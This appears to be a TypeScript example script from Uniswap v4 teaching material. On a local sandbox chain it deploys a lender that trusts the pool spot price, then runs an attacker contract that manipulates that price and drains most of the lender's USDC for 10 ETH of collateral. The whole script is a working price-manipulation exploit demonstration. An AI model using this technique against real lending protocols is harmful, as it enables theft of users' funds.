import {erc20Abi, formatUnits, parseAbi, parseEther, parseUnits} from 'viem';
import {client, clientOf, confirm, requireBalance} from '../../support/chain';
import {deploy} from '../../support/contract';
import {runOnSandbox} from '../../support/runOnSandbox';
import {stateView} from '../support/lenses';
import {manager} from '../support/manager';
import {idOf, key, usdc} from '../support/pool';

const file = 'examples/v4/concepts/SpotLender.sol';
const funds = parseUnits('100000', usdc.decimals);
const abi = parseAbi([
  'struct PoolKey { address currency0; address currency1; uint24 fee; int24 tickSpacing; address hooks; }',
  'function attack(address lender, PoolKey key, uint160 falsePriceX96) payable',
]);
/** Steals; with an account of its own it acts in a local chain only. */
const thief = clientOf(9);

const show = (units: bigint) => `${formatUnits(units, usdc.decimals)} USDC`;
const usdcOf = (address: `0x${string}`) =>
  client.readContract({...usdc, abi: erc20Abi, functionName: 'balanceOf', args: [address]});
/** USDC per ETH, from the price of StateView, in hundredths. */
async function readPrice(): Promise<string> {
  const slot0 = {...stateView, functionName: 'getSlot0', args: [idOf(key)]} as const;
  const [sqrtPriceX96] = await client.readContract(slot0);
  return formatUnits((sqrtPriceX96 ** 2n * 10n ** 14n) >> 192n, 2);
}

runOnSandbox('acts as two accounts', async () => {
  // #region lender
  await requireBalance(usdc, funds);
  const args = [manager.address, key] as const;
  const lender = await deploy({file, contract: 'SpotLender'}, args);
  const fund = {functionName: 'transfer', args: [lender, funds]} as const;
  await confirm(await client.writeContract({...usdc, abi: erc20Abi, ...fund}));
  const attacker = await deploy({file, contract: 'SpotAttacker'}, [manager.address]);
  console.log(`before: the lender has ${show(await usdcOf(lender))}`);
  console.log(`before: ${await readPrice()} USDC per ETH in the pool`);
  // #endregion lender

  // #region attack
  const falsePriceX96 = ((1n << 96n) * 141_421_356n) / 10n ** 12n; // √(20,000 · 10⁻¹²)
  const before = await usdcOf(thief.account.address);
  const call = {functionName: 'attack', args: [lender, key, falsePriceX96]} as const;
  const collateral = parseEther('10'); // worth 20,000 USDC
  const request = {address: attacker, abi, ...call, value: collateral} as const;
  await confirm(await thief.writeContract(request));
  // #endregion attack

  const stolen = (await usdcOf(thief.account.address)) - before;
  console.log(`after:  the lender has ${show(await usdcOf(lender))}`);
  console.log(`after:  ${await readPrice()} USDC per ETH in the pool`);
  console.log(`the thief paid 10 ETH and got ${show(stolen)}`);
});
